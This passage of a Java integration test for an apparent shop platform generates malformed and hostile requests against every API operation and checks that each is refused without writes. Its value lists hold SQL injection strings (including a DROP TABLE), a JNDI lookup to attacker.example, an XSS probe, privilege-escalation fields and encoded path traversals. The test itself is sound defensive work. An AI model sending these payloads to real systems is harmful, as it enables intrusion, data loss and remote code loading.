package dev.cartwheel.launcher;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.cartwheel.launcher.Shoppers.Shopper;
import dev.cartwheel.runtime.auth.Jwt;
import dev.cartwheel.runtime.auth.JwtSettings;
import dev.cartwheel.testkit.TestServices;
import io.vertx.core.Vertx;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.http.HttpMethod;
import io.vertx.core.json.Json;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import io.vertx.ext.auth.JWTOptions;
import io.vertx.ext.auth.PubSecKeyOptions;
import io.vertx.ext.auth.jwt.JWTAuth;
import io.vertx.ext.auth.jwt.JWTAuthOptions;
import io.vertx.ext.web.client.HttpRequest;
import io.vertx.ext.web.client.HttpResponse;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.security.KeyPairGenerator;
import java.security.spec.ECGenParameterSpec;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicReference;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * A bad-input corpus generated from the published OpenAPI documents: for every operation of every API
 * version, malformed bodies, hostile values for each property and parameter, and broken tokens. Every
 * request must be refused with a problem (4xx, {@code application/problem+json}, a stable code, nothing
 * internal in it), and the whole corpus must write nothing at all.
 *
 * <p>How every case stays invalid: each case changes one thing in a <em>baseline</em> request that passes
 * the schema but that the platform refuses without writing (an e-mail address already taken, a SKU that
 * exists or that does not, another customer's order...). A mutation the schema surely refuses must come
 * back as VALIDATION_FAILED naming the field. One the schema may allow (a name in emoji is a fine name)
 * travels all the way to the domain and must come back either so or with the baseline's own refusal, so
 * it is still tested down to the database, and still writes nothing. Where no baseline refusal exists (an
 * administrator's dead-letter replay is simply accepted), such mutations are not generated.
 */
@Timeout(120)
class BadInputCorpusIT {

  /** Fewer cases than this means the generator lost track of the documents. */
  private static final int MINIMUM_CASES = 1500;

  private static final int MINIMUM_OPERATIONS = 20;
  private static final Set<String> HTTP_METHODS =
      Set.of("get", "put", "post", "delete", "patch", "head", "options", "trace");
  private static final List<String> SCHEMAS = VerticleCatalog.domains();
  private static final String UNKNOWN_SKU = "CW-NO-SUCH-SKU";
  private static final Pattern UUID_TEXT =
      Pattern.compile(
          "^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}$");
  private static final String MARKER = "__corpus_marker__";
  private static final String DUPLICATE = "__corpus_duplicate__";

  private static RunningPlatform node;
  private static Vertx signing;
  private static JWTAuth devKeys;
  private static String adminToken;
  private static Shopper owner;
  private static Shopper customer;
  private static String product;
  private static String ownersOrder;
  private static String ownersNotification;
  private static final AtomicInteger sequence = new AtomicInteger();
  private static int maxBodyBytes;
  private static int maxJsonDepth;

  @BeforeAll
  static void startNode() {
    node =
        RunningPlatform.start(
            Map.of("inventory.seedDemoCatalogue", "false", "payments.simulator.latencyMs", "0"));
    // no saga or stock reservation of an earlier test may finish (and write) while the corpus runs
    TestServices.sql(Commerce.RESET);
    signing = Vertx.vertx();
    maxBodyBytes = node.platform.config().integer("http.maxBodyBytes", 1024, 60_000_000);
    maxJsonDepth = node.platform.config().integer("http.maxJsonDepth", 2, 1000);
    JwtSettings dev = JwtSettings.from(node.platform.config());
    devKeys = Jwt.signer(signing, dev);
    adminToken = Shoppers.login(node, "admin@cartwheel.dev", "cartwheel-dev-admin").token();
    product = "CW-CORPUS-" + UUID.randomUUID().toString().substring(0, 8).toUpperCase(Locale.ROOT);
    Shoppers.createProduct(node, adminToken, product, 10);
    owner = Shoppers.register(node, "owner");
    customer = Shoppers.register(node, "intruder");
    ownersOrder = Shoppers.placeOrder(node, owner.token(), product, 1);
    ownersNotification =
        await()
            .atMost(Duration.ofSeconds(20))
            .until(() -> firstNotificationOf(owner), Optional::isPresent)
            .orElseThrow();
  }

  @AfterAll
  static void stopNode() {
    signing.close().await();
    node.close();
  }

  @Test
  @DisplayName(
      "every operation of both documents refuses every malformed or hostile request with a problem, and nothing is written")
  void theCorpusIsRefusedAndWritesNothing() {
    List<ApiOperation> operations = ApiOperation.published(node);
    assertThat(operations)
        .as("operations in the published documents")
        .hasSizeGreaterThanOrEqualTo(MINIMUM_OPERATIONS);
    assertEveryOperationThatNeedsABaselineHasOne(operations);
    Map<String, String> before = settledTables();

    List<Case> corpus = operations.stream().flatMap(BadInputCorpusIT::casesFor).toList();
    List<Failure> failures = new ArrayList<>();
    AtomicInteger served = new AtomicInteger();
    corpus.forEach(c -> run(c, served).ifPresent(failures::add));
    List<String> changedTables = changes(before, settledTables());

    System.out.printf(
        "Bad-input corpus: %d requests over %d operations; %d answered as they should (%d refused with a problem, %d legitimately"
            + " served: literal searches, lenient numbers, a token of a user who does not exist), %d did not; %d tables changed%n",
        corpus.size(),
        operations.size(),
        corpus.size() - failures.size(),
        corpus.size() - failures.size() - served.get(),
        served.get(),
        failures.size(),
        changedTables.size());
    SoftAssertions.assertSoftly(
        softly -> {
          softly
              .assertThat(corpus)
              .as("cases generated")
              .hasSizeGreaterThanOrEqualTo(MINIMUM_CASES);
          softly.assertThat(changedTables).as("tables written by the corpus").isEmpty();
          softly.assertThat(failures.size()).as(report(failures, corpus.size())).isZero();
        });
  }

  /** The failures grouped by mutation and answer (one cause often fails many operations), then the first of each in full. */
  private static String report(List<Failure> failures, int cases) {
    Map<String, List<Failure>> groups =
        failures.stream()
            .collect(Collectors.groupingBy(Failure::group, TreeMap::new, Collectors.toList()));
    StringBuilder report =
        new StringBuilder()
            .append(failures.size())
            .append(" of ")
            .append(cases)
            .append(" cases did not get the answer they should, in ")
            .append(groups.size())
            .append(" groups:\n");
    groups.forEach(
        (group, members) ->
            report
                .append("  [")
                .append(members.size())
                .append("] ")
                .append(group)
                .append(": ")
                .append(
                    members.stream()
                        .map(failure -> failure.c().operation() + " as " + failure.c().caller())
                        .distinct()
                        .collect(Collectors.joining(", ")))
                .append('\n'));
    report.append("The first case of each group:\n");
    groups.values().forEach(members -> report.append(members.get(0)).append('\n'));
    return report.toString();
  }

  // ---------------------------------------------------------------------------------------------------------------
  // Baselines: per operation, a request that passes the schema and that the platform refuses
  // without writing.
  // ---------------------------------------------------------------------------------------------------------------

  /**
   * @param pathValues        encoded path parameters
   * @param body              null when the operation takes none
   * @param asCustomer        how the platform refuses the baseline from the customer (null: it would serve it)
   * @param asAdmin           how it refuses it from an admin (null: it would serve it)
   */
  record Baseline(
      String description,
      Map<String, String> pathValues,
      JsonObject body,
      Expectation asCustomer,
      Expectation asAdmin) {

    static final Baseline NONE = new Baseline("no parameters", Map.of(), null, null, null);

    Expectation refusalFor(Caller caller) {
      return caller.admin() ? asAdmin : asCustomer;
    }
  }

  private static Map<String, Baseline> baselines;

  private static Map<String, Baseline> baselines() {
    if (baselines == null) {
      baselines = definedBaselines();
    }
    return baselines;
  }

  private static Map<String, Baseline> definedBaselines() {
    Expectation forbidden = problem(403, "FORBIDDEN");
    Expectation orderNotFound = problem(404, "ORDER_NOT_FOUND");
    JsonObject order = new JsonObject().put("paymentToken", "tok_visa");
    JsonArray unknownProduct =
        new JsonArray().add(new JsonObject().put("sku", UNKNOWN_SKU).put("quantity", 1));
    return Map.ofEntries(
        Map.entry(
            "v1 registerUser",
            new Baseline(
                "the customer's own e-mail address, already taken",
                Map.of(),
                new JsonObject()
                    .put("email", customer.email())
                    .put("password", "corpus-baseline-password")
                    .put("fullName", "Corpus Customer"),
                problem(409, "EMAIL_TAKEN"),
                null)),
        Map.entry(
            "v1 createSession",
            new Baseline(
                "the customer's e-mail address with a wrong password",
                Map.of(),
                new JsonObject()
                    .put("email", customer.email())
                    .put("password", "not-the-password-of-anyone"),
                problem(401, "INVALID_CREDENTIALS"),
                null)),
        Map.entry(
            "v1 createProduct",
            new Baseline(
                "a SKU that exists",
                Map.of(),
                new JsonObject()
                    .put("sku", product)
                    .put("name", "Corpus product")
                    .put("description", "A product of the corpus")
                    .put("priceMinor", 990)
                    .put("currency", "EUR")
                    .put("initialStock", 1),
                forbidden,
                problem(409, "SKU_TAKEN"))),
        Map.entry(
            "v1 getProduct",
            new Baseline(
                "a SKU no product has",
                Map.of("sku", UNKNOWN_SKU),
                null,
                problem(404, "PRODUCT_NOT_FOUND"),
                null)),
        Map.entry(
            "v1 restockProduct",
            new Baseline(
                "a SKU no product has",
                Map.of("sku", UNKNOWN_SKU),
                new JsonObject().put("quantity", 5),
                forbidden,
                problem(404, "PRODUCT_NOT_FOUND"))),
        Map.entry(
            "v1 placeOrder",
            new Baseline(
                "a line of a SKU no product has",
                Map.of(),
                order.copy().put("lines", unknownProduct.copy()),
                invalid("lines/0/sku"),
                null)),
        Map.entry(
            "v2 placeOrder",
            new Baseline(
                "an item of a SKU no product has",
                Map.of(),
                order.copy().put("items", unknownProduct.copy()),
                invalid("items/0/sku"),
                null)),
        Map.entry(
            "v1 getOrder",
            new Baseline(
                "another customer's order", Map.of("id", ownersOrder), null, orderNotFound, null)),
        Map.entry(
            "v2 getOrder",
            new Baseline(
                "another customer's order", Map.of("id", ownersOrder), null, orderNotFound, null)),
        Map.entry(
            "v1 cancelOrder",
            new Baseline(
                "another customer's order", Map.of("id", ownersOrder), null, orderNotFound, null)),
        Map.entry(
            "v2 cancelOrder",
            new Baseline(
                "another customer's order", Map.of("id", ownersOrder), null, orderNotFound, null)),
        Map.entry(
            "v1 markNotificationRead",
            new Baseline(
                "another customer's notification",
                Map.of("id", ownersNotification),
                null,
                problem(404, "NOTIFICATION_NOT_FOUND"),
                null)),
        Map.entry(
            "v1 changeConfig",
            new Baseline(
                "a change of a key that does not exist",
                Map.of(),
                new JsonObject().put("corpus.noSuchKey", 1),
                forbidden,
                invalid("corpus.noSuchKey"))),
        // an admin's replay of {reason, limit} is served: only mutations the schema surely refuses
        // are sent as admin
        Map.entry(
            "v1 replayDeadLetters",
            new Baseline(
                "a replay of one rejected record",
                Map.of(),
                new JsonObject().put("reason", "rejected").put("limit", 1),
                forbidden,
                null)));
  }

  private static Baseline baselineOf(ApiOperation op) {
    return baselines().getOrDefault(op.key(), Baseline.NONE);
  }

  /** A new operation with a body or a path parameter makes this fail until it has a baseline. */
  private static void assertEveryOperationThatNeedsABaselineHasOne(List<ApiOperation> operations) {
    Set<String> needingOne =
        operations.stream()
            .filter(op -> op.bodySchema().isPresent() || !op.parameters("path").isEmpty())
            .map(ApiOperation::key)
            .collect(Collectors.toCollection(TreeSet::new));
    assertThat(new TreeSet<>(baselines().keySet()))
        .as("operations with a body or a path parameter, and their baselines")
        .isEqualTo(needingOne);
  }

  // ---------------------------------------------------------------------------------------------------------------
  // The corpus
  // ---------------------------------------------------------------------------------------------------------------

  record Caller(String name, String token, boolean admin) {}

  /** One request of the corpus, named so that a failure says which operation, which mutation and as whom. */
  record Case(
      String operation,
      String caller,
      String mutation,
      Request request,
      Expectation expect,
      boolean mayBeServed) {

    @Override
    public String toString() {
      return operation
          + " as "
          + caller
          + " · "
          + mutation
          + "  ["
          + request.method()
          + " "
          + abbreviate(request.path(), 160)
          + "]";
    }
  }

  record Request(HttpMethod method, String path, Map<String, String> headers, Buffer body) {

    Request withBody(String contentType, Buffer newBody) {
      Map<String, String> newHeaders = new LinkedHashMap<>(headers);
      newHeaders.remove("Content-Type");
      if (contentType != null) {
        newHeaders.put("Content-Type", contentType);
      }
      return new Request(method, path, newHeaders, newBody);
    }

    Request withBody(String json) {
      return withBody("application/json", Buffer.buffer(json));
    }

    Request withPath(String newPath) {
      return new Request(method, newPath, headers, body);
    }

    Request withHeader(String name, String value) {
      Map<String, String> newHeaders = new LinkedHashMap<>(headers);
      newHeaders.remove(name);
      if (value != null) {
        newHeaders.put(name, value);
      }
      return new Request(method, path, newHeaders, body);
    }

    Request withQuery(String name, String encodedValue) {
      return withPath(path + (path.contains("?") ? "&" : "?") + name + "=" + encodedValue);
    }
  }

  private static List<Caller> callersOf(ApiOperation op) {
    Caller asCustomer = new Caller("customer", customer.token(), false);
    // admin-only operations validate before they check roles: as admin, the cases reach the domain
    // too
    return op.adminOnly()
        ? List.of(asCustomer, new Caller("admin", adminToken, true))
        : List.of(asCustomer);
  }

  private static Stream<Case> casesFor(ApiOperation op) {
    Stream<Case> asCallers =
        callersOf(op).stream()
            .flatMap(
                caller ->
                    Stream.of(
                            baselineCase(op, caller),
                            bodyCases(op, caller),
                            pathCases(op, caller),
                            queryCases(op, caller),
                            headerCases(op, caller))
                        .flatMap(cases -> cases));
    return Stream.concat(asCallers, authCases(op));
  }

  private static Request baselineRequest(ApiOperation op, Caller caller) {
    Baseline baseline = baselineOf(op);
    Map<String, String> headers = new LinkedHashMap<>();
    if (caller.token() != null) {
      headers.put("Authorization", "Bearer " + caller.token());
    }
    // every header parameter (Idempotency-Key) gets a fresh value that fits its pattern
    op.parameters("header")
        .forEach(
            parameter ->
                headers.put(parameter.getString("name"), "corpus-" + sequence.incrementAndGet()));
    Request request =
        new Request(HttpMethod.valueOf(op.method()), op.url(baseline.pathValues()), headers, null);
    return baseline.body() == null ? request : request.withBody(baseline.body().encode());
  }

  private static Case caseOf(
      ApiOperation op, Caller caller, String mutation, Request request, Expectation expect) {
    return new Case(op.toString(), caller.name(), mutation, request, expect, false);
  }

  private static Case mayBeServed(
      ApiOperation op, Caller caller, String mutation, Request request, Expectation expect) {
    return new Case(op.toString(), caller.name(), mutation, request, expect, true);
  }

  /** The baseline itself: proves it passes the schema, so that each mutation below is refused for its own reason. */
  private static Stream<Case> baselineCase(ApiOperation op, Caller caller) {
    Baseline baseline = baselineOf(op);
    Expectation refusal = baseline.refusalFor(caller);
    return refusal == null
        ? Stream.empty()
        : Stream.of(
            caseOf(
                op,
                caller,
                "baseline: " + baseline.description(),
                baselineRequest(op, caller),
                refusal));
  }

  // --- bodies
  // -----------------------------------------------------------------------------------------------------

  private static Stream<Case> bodyCases(ApiOperation op, Caller caller) {
    Optional<JsonObject> schema = op.bodySchema();
    if (schema.isEmpty()) {
      return Stream.empty();
    }
    List<Case> cases = new ArrayList<>(wholeBodyCases(op, caller));
    for (ObjectAt object : objectsOf(op, schema.get(), List.of())) {
      cases.addAll(missingPropertyCases(op, caller, object));
      cases.addAll(unknownPropertyCases(op, caller, object));
      for (Property property : object.properties(op)) {
        cases.addAll(propertyCases(op, caller, property));
      }
      if (!object.schema().containsKey("properties") && object.path().isEmpty()) {
        // a free-form object (key → value): the baseline's keys, with values the schema cannot
        // judge
        for (String key : baselineOf(op).body().fieldNames()) {
          cases.addAll(
              propertyCases(op, caller, new Property(List.of(key), new JsonObject(), false)));
        }
      }
    }
    return cases.stream();
  }

  private static List<Case> wholeBodyCases(ApiOperation op, Caller caller) {
    Request base = baselineRequest(op, caller);
    String json = base.body().toString();
    String firstProperty = baselineOf(op).body().fieldNames().iterator().next();
    Expectation unsupported = problem(415, "UNSUPPORTED_MEDIA_TYPE");
    Expectation malformed = problem(400, "MALFORMED_JSON");
    Expectation invalidBody = problem(400, "VALIDATION_FAILED");
    List<Case> cases =
        new ArrayList<>(
            List.of(
                caseOf(
                    op,
                    caller,
                    "the JSON body sent as text/plain",
                    base.withBody("text/plain", base.body()),
                    unsupported),
                caseOf(
                    op,
                    caller,
                    "an XML body sent as application/xml",
                    base.withBody("application/xml", Buffer.buffer("<body><a>1</a></body>")),
                    unsupported),
                caseOf(
                    op,
                    caller,
                    "the JSON body sent as application/x-www-form-urlencoded",
                    base.withBody(
                        "application/x-www-form-urlencoded", Buffer.buffer(firstProperty + "=1")),
                    unsupported),
                caseOf(
                    op,
                    caller,
                    "the JSON body sent without a Content-Type",
                    base.withBody(null, base.body()),
                    unsupported),
                caseOf(
                    op,
                    caller,
                    "truncated JSON",
                    base.withBody(json.substring(0, json.length() / 2)),
                    malformed),
                caseOf(
                    op,
                    caller,
                    "a body that is not JSON",
                    base.withBody("this is not JSON"),
                    malformed),
                caseOf(
                    op,
                    caller,
                    "a single quote-delimited pseudo-JSON",
                    base.withBody("{'" + firstProperty + "': 1}"),
                    malformed),
                caseOf(
                    op,
                    caller,
                    "invalid UTF-8 inside a string",
                    base.withBody(
                        "application/json",
                        Buffer.buffer("{\"" + firstProperty + "\":\"")
                            .appendBytes(new byte[] {(byte) 0xC3, (byte) 0x28, (byte) 0xFF})
                            .appendString("\"}")),
                    malformed),
                caseOf(op, caller, "JSON null", base.withBody("null"), invalidBody),
                caseOf(op, caller, "a JSON array", base.withBody("[" + json + "]"), invalidBody),
                caseOf(op, caller, "a JSON number", base.withBody("42"), invalidBody),
                caseOf(
                    op,
                    caller,
                    "a JSON string",
                    base.withBody("\"" + firstProperty + "\""),
                    invalidBody),
                caseOf(
                    op,
                    caller,
                    "nested " + (maxJsonDepth + 8) + " levels deep",
                    base.withBody(nested(firstProperty, maxJsonDepth + 8)),
                    invalidBody),
                caseOf(
                    op,
                    caller,
                    "nested as deep as the body limit allows",
                    base.withBody(nested(firstProperty, (maxBodyBytes - 100) / 2)),
                    invalidBody),
                caseOf(
                    op,
                    caller,
                    "a body over the size limit",
                    base.withBody(
                        "{\"" + firstProperty + "\":" + jsonString("x".repeat(maxBodyBytes)) + "}"),
                    problem(413, "PAYLOAD_TOO_LARGE"))));
    if (op.bodyRequired()) {
      cases.add(caseOf(op, caller, "an empty body", base.withBody(""), invalidBody));
    }
    JsonObject schema = op.bodySchema().orElseThrow();
    Optional.ofNullable(schema.getInteger("minProperties"))
        .filter(min -> min > 0)
        .ifPresent(
            min ->
                cases.add(
                    caseOf(
                        op,
                        caller,
                        "an object of " + (min - 1) + " properties (minProperties " + min + ")",
                        base.withBody(objectOfSize(min - 1)),
                        invalidBody)));
    Optional.ofNullable(schema.getInteger("maxProperties"))
        .ifPresent(
            max ->
                cases.add(
                    caseOf(
                        op,
                        caller,
                        "an object of " + (max + 1) + " properties (maxProperties " + max + ")",
                        base.withBody(objectOfSize(max + 1)),
                        invalidBody)));
    return cases;
  }

  private static String objectOfSize(int size) {
    JsonObject object = new JsonObject();
    for (int i = 0; i < size; i++) {
      object.put("corpus.key" + i, i);
    }
    return object.encode();
  }

  private static String nested(String property, int depth) {
    return "{\"" + property + "\":" + "[".repeat(depth) + "]".repeat(depth) + "}";
  }

  /** An object schema inside a body, at a path from the body's root ([] for the body, [lines, 0] for an order line). */
  record ObjectAt(List<String> path, JsonObject schema) {

    List<Property> properties(ApiOperation op) {
      List<Property> properties = new ArrayList<>();
      JsonArray required = schema.getJsonArray("required", new JsonArray());
      schema
          .getJsonObject("properties", new JsonObject())
          .forEach(
              entry ->
                  properties.add(
                      new Property(
                          append(path, entry.getKey()),
                          op.resolve((JsonObject) entry.getValue()),
                          required.contains(entry.getKey()))));
      return properties;
    }
  }

  /** A property of a body, at a path from the body's root (lines/0/sku). */
  record Property(List<String> path, JsonObject schema, boolean required) {

    String field() {
      return String.join("/", path);
    }

    String name() {
      return path.get(path.size() - 1);
    }
  }

  /** The body's object schemas: the body itself, objects in it and the items of arrays of objects (the baseline has one). */
  private static List<ObjectAt> objectsOf(ApiOperation op, JsonObject schema, List<String> path) {
    List<ObjectAt> objects = new ArrayList<>();
    objects.add(new ObjectAt(path, schema));
    for (Property property : new ObjectAt(path, schema).properties(op)) {
      if (hasType(property.schema(), "object")) {
        objects.addAll(objectsOf(op, property.schema(), property.path()));
      } else if (hasType(property.schema(), "array") && property.schema().containsKey("items")) {
        JsonObject items = op.resolve(property.schema().getJsonObject("items"));
        if (hasType(items, "object")) {
          objects.addAll(objectsOf(op, items, append(property.path(), "0")));
        }
      }
    }
    return objects;
  }

  private static List<Case> missingPropertyCases(ApiOperation op, Caller caller, ObjectAt object) {
    Request base = baselineRequest(op, caller);
    return object.properties(op).stream()
        .filter(Property::required)
        .map(
            property -> {
              JsonObject body = baselineOf(op).body().copy();
              remove(body, property.path());
              return caseOf(
                  op,
                  caller,
                  "required " + property.field() + " missing",
                  base.withBody(body.encode()),
                  invalid(property.field()));
            })
        .toList();
  }

  /**
   * Fields the schema does not know, privilege escalation attempts among them. Every object schema of the
   * documents says additionalProperties: false; one that allowed them would take these as valid, so they
   * are generated only where the schema forbids them.
   */
  private static List<Case> unknownPropertyCases(ApiOperation op, Caller caller, ObjectAt object) {
    if (!Boolean.FALSE.equals(object.schema().getValue("additionalProperties"))) {
      return List.of();
    }
    Request base = baselineRequest(op, caller);
    Map<String, Object> extras = new LinkedHashMap<>();
    extras.put("unexpected", 1);
    extras.put("roles", new JsonArray().add("admin"));
    extras.put("admin", true);
    extras.put("userId", owner.userId());
    extras.put("__proto__", new JsonObject().put("admin", true));
    List<Case> cases = new ArrayList<>();
    extras.forEach(
        (name, value) -> {
          JsonObject body = baselineOf(op).body().copy();
          List<String> path = append(object.path(), name);
          set(body, path, value);
          cases.add(
              caseOf(
                  op,
                  caller,
                  "unknown property " + String.join("/", path) + " = " + Json.encode(value),
                  base.withBody(body.encode()),
                  invalid(String.join("/", path))));
        });
    return cases;
  }

  private static List<Case> propertyCases(ApiOperation op, Caller caller, Property property) {
    Request base = baselineRequest(op, caller);
    Expectation refusal = baselineOf(op).refusalFor(caller);
    List<Case> cases = new ArrayList<>();
    for (Value value : hostileValues(property.schema())) {
      String mutation = property.field() + " = " + value.label();
      String body = bodyWith(baselineOf(op).body(), property.path(), value.json());
      Optional<Expectation> expect =
          expectationFor(property.field(), property.schema(), value.value(), refusal);
      expect.ifPresent(e -> cases.add(caseOf(op, caller, mutation, base.withBody(body), e)));
    }
    int overLimit = Math.max(100_000, maxBodyBytes + 1);
    String tooLarge =
        bodyWith(baselineOf(op).body(), property.path(), jsonString("y".repeat(overLimit)));
    cases.add(
        caseOf(
            op,
            caller,
            property.field() + " = a string of " + overLimit + " characters (over the body limit)",
            base.withBody(tooLarge),
            problem(413, "PAYLOAD_TOO_LARGE")));
    cases.addAll(duplicateKeyCases(op, caller, property, refusal));
    return cases;
  }

  /**
   * RFC 8259 leaves duplicate names to the parser. The validator and the handler must agree on which one
   * counts: a valid value followed by an invalid one must be refused naming the field, and an invalid one
   * followed by a valid one must either be refused so or reach the domain as the valid one (then it gets
   * the baseline's refusal; never a 500 from a handler that read the other value).
   */
  private static List<Case> duplicateKeyCases(
      ApiOperation op, Caller caller, Property property, Expectation refusal) {
    Request base = baselineRequest(op, caller);
    Object valid = valueAt(baselineOf(op).body(), property.path());
    List<Case> cases = new ArrayList<>();
    if (wrongTypes(property.schema()).isEmpty()) {
      return cases;
    }
    String wrong = wrongTypes(property.schema()).get(0).json();
    cases.add(
        caseOf(
            op,
            caller,
            property.field() + " given twice, valid then " + wrong,
            base.withBody(
                bodyWithDuplicate(
                    baselineOf(op).body(), property.path(), Json.encode(valid), wrong)),
            invalid(property.field())));
    if (refusal != null) {
      cases.add(
          caseOf(
              op,
              caller,
              property.field() + " given twice, " + wrong + " then valid",
              base.withBody(
                  bodyWithDuplicate(
                      baselineOf(op).body(), property.path(), wrong, Json.encode(valid))),
              invalidOr(property.field(), refusal)));
    }
    return cases;
  }

  // --- values
  // -----------------------------------------------------------------------------------------------------

  /** A value to put somewhere: what it is (for the failure message), as Java, and as JSON text. */
  record Value(String label, Object value, String json) {

    static Value of(String label, Object value) {
      return new Value(
          label, value, value instanceof String text ? jsonString(text) : Json.encode(value));
    }
  }

  private static final List<String> SQL_INJECTIONS =
      List.of("' OR 1=1 --", "'; DROP TABLE users.users; --", "1; SELECT pg_sleep(5)");
  private static final List<String> JSON_INJECTIONS =
      List.of(
          "\",\"roles\":[\"admin\"],\"x\":\"",
          "{\"$ne\": null}",
          "\\\"}]}",
          "<script>alert(1)</script>",
          "${jndi:ldap://attacker.example/a}");
  private static final Map<String, String> UNICODE = unicodeEdgeCases();

  private static Map<String, String> unicodeEdgeCases() {
    Map<String, String> values = new LinkedHashMap<>();
    values.put("a lone surrogate \\ud800", "\ud800");
    values.put("a lone low surrogate \\udc00 after text", "Ada\udc00");
    values.put("a right-to-left override", "Ada\u202eecalevoL");
    values.put("zero-width joiners", "A\u200dd\u200da");
    values.put("NUL", "\u0000");
    values.put("NUL inside text", "Ada\u0000Lovelace");
    values.put("an emoji", "\ud83d\ude00");
    values.put("a byte-order mark and a non-character", "\ufeff\uffff");
    return values;
  }

  private static List<Value> hostileValues(JsonObject schema) {
    List<Value> values = new ArrayList<>(wrongTypes(schema));
    values.add(Value.of("1e308", 1e308));
    values.add(Value.of("2^63", BigInteger.TWO.pow(63)));
    values.add(Value.of("-2^63-1", BigInteger.TWO.pow(63).negate().subtract(BigInteger.ONE)));
    numberBound(schema, "minimum")
        .ifPresent(
            min ->
                values.add(
                    Value.of(
                        "minimum - 1 (" + min.subtract(BigInteger.ONE) + ")",
                        min.subtract(BigInteger.ONE))));
    numberBound(schema, "maximum")
        .ifPresent(
            max ->
                values.add(
                    Value.of(
                        "maximum + 1 (" + max.add(BigInteger.ONE) + ")", max.add(BigInteger.ONE))));
    values.add(Value.of("an empty string", ""));
    int underLimit = maxBodyBytes - 2048;
    values.add(
        Value.of(
            "a string of " + underLimit + " characters (under the body limit)",
            "z".repeat(underLimit)));
    SQL_INJECTIONS.forEach(text -> values.add(Value.of("SQL injection " + text, text)));
    JSON_INJECTIONS.forEach(text -> values.add(Value.of("injection-looking " + text, text)));
    UNICODE.forEach((label, text) -> values.add(Value.of(label, text)));
    values.add(Value.of("an object with an operator", new JsonObject().put("$gt", "")));
    values.add(
        Value.of(
            "an array of 10000 items", new JsonArray(java.util.Collections.nCopies(10_000, 1))));
    return values;
  }

  /** Values of every JSON type but the property's own. */
  private static List<Value> wrongTypes(JsonObject schema) {
    return Stream.of(
            Value.of("a string", "12"),
            Value.of("an integer", 42L),
            Value.of("a decimal", 1.5),
            Value.of("a boolean", true),
            Value.of("an empty array", new JsonArray()),
            Value.of("an empty object", new JsonObject()),
            Value.of("null", null))
        .filter(value -> !typeMatches(schema, value.value()))
        .toList();
  }

  /**
   * A value the schema surely refuses must be refused naming the field. One it may accept goes on to the
   * domain, where the baseline's refusal stops it (or a domain rule names the field); without a baseline
   * refusal it is not sent: it might be served, and write.
   */
  private static Optional<Expectation> expectationFor(
      String field, JsonObject schema, Object value, Expectation refusal) {
    if (surelyInvalid(schema, value)) {
      return Optional.of(invalid(field));
    }
    return Optional.ofNullable(refusal).map(r -> invalidOr(field, r));
  }

  // --- path, query and header parameters
  // ---------------------------------------------------------------------------

  private static Stream<Case> pathCases(ApiOperation op, Caller caller) {
    Baseline baseline = baselineOf(op);
    Expectation refusal = baseline.refusalFor(caller);
    List<Case> cases = new ArrayList<>();
    for (JsonObject parameter : op.parameters("path")) {
      String name = parameter.getString("name");
      JsonObject schema = op.resolve(parameter.getJsonObject("schema"));
      Request base = baselineRequest(op, caller);
      for (Value value : pathValues(baseline.pathValues().get(name))) {
        Map<String, String> values = new LinkedHashMap<>(baseline.pathValues());
        values.put(name, encode((String) value.value()));
        Request request = base.withPath(op.url(values));
        if (surelyInvalid(schema, value.value())) {
          cases.add(
              caseOf(
                  op,
                  caller,
                  "path " + name + " = " + value.label(),
                  request,
                  parameterInvalid(name)));
        } else if (refusal != null) {
          cases.add(caseOf(op, caller, "path " + name + " = " + value.label(), request, refusal));
        }
      }
      // encoded slashes and dots must not walk out of the parameter into another route
      for (String traversal :
          List.of(
              "..%2F..%2Fusers%2Fme",
              "..%2f..%2fadmin%2fdead-letters",
              "%2e%2e%2f%2e%2e%2fusers%2fme",
              "%2e%2e",
              "..%5C..%5Cusers")) {
        Map<String, String> values = new LinkedHashMap<>(baseline.pathValues());
        values.put(name, traversal);
        cases.add(
            caseOf(
                op,
                caller,
                "path " + name + " = " + traversal,
                base.withPath(op.url(values)),
                refused()));
      }
    }
    return cases.stream();
  }

  private static List<Value> pathValues(String baseline) {
    List<Value> values = new ArrayList<>();
    SQL_INJECTIONS.forEach(text -> values.add(Value.of("SQL injection " + text, text)));
    values.add(Value.of("a string of 2000 characters", "A".repeat(2000)));
    values.add(Value.of("not a UUID", "not-a-uuid"));
    values.add(Value.of("a number", "12345"));
    values.add(Value.of("the baseline with a tail", baseline + "'--"));
    values.add(Value.of("the baseline in lower case", baseline.toLowerCase(Locale.ROOT)));
    values.add(Value.of("the baseline with a NUL", baseline + "\u0000"));
    values.add(Value.of("a right-to-left override", "\u202e" + baseline));
    values.add(Value.of("an emoji", "\ud83d\ude00"));
    values.add(Value.of("a UUID no resource has", UUID.randomUUID().toString()));
    values.add(Value.of("the nil UUID", "00000000-0000-0000-0000-000000000000"));
    values.add(Value.of("a JSON object", "{\"$ne\":null}"));
    return values.stream().filter(value -> !value.value().equals(baseline)).toList();
  }

  private static Stream<Case> queryCases(ApiOperation op, Caller caller) {
    List<Case> cases = new ArrayList<>();
    for (JsonObject parameter : op.parameters("query")) {
      String name = parameter.getString("name");
      JsonObject schema = op.resolve(parameter.getJsonObject("schema"));
      Request base = baselineRequest(op, caller);
      for (Value value : queryValues(schema)) {
        String text = (String) value.value();
        Request request = base.withQuery(name, encode(text));
        String mutation = "query " + name + " = " + value.label();
        if (surelyInvalid(schema, parseQueryValue(schema, text))) {
          cases.add(caseOf(op, caller, mutation, request, parameterInvalid(name)));
        } else if (hasType(schema, "string") && "q".equals(name)) {
